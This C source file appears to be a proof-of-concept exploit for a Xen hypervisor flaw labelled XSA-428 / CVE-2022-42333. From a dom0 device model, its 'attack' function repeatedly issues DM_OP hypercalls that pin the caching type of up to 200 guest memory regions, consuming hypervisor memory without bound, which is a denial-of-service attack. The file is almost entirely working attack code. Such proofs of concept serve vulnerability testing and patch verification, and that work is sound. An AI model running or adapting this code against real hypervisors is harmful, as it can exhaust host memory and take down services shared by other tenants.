// SPDX-License-Identifier: Apache-2.0
// XSA-428, CVE-2022-42333. A device model pins the caching of one region of its guest's memory after the
// other: each costs the hypervisor memory, and nothing bounds their number.

#include "dom0.h"

enum { PIN_CACHING = 18, WRITE_BACK = 6, REGIONS = 200 };

struct pin { uint32_t op, pad; uint64_t start, end; uint32_t type, pad2; };

int attack(int guest)
{
    struct dm_buffer *buffer = shared_memory(sizeof *buffer);
    struct pin *pin = shared_memory(sizeof *pin);
    int made = 0;
    long result = 0;
    *buffer = (struct dm_buffer){(uint64_t)pin, sizeof *pin};
    for (; made < REGIONS && !result; made += !result) {
        *pin = (struct pin){.op = PIN_CACHING, .start = 2 * made, .end = 2 * made, .type = WRITE_BACK};
        result = hypercall(HYPERCALL_DM_OP, guest, 1, (uint64_t)buffer);
    }
    printf("regions %d, last answer %ld\ndone\n", made, result);
    return 0;
}
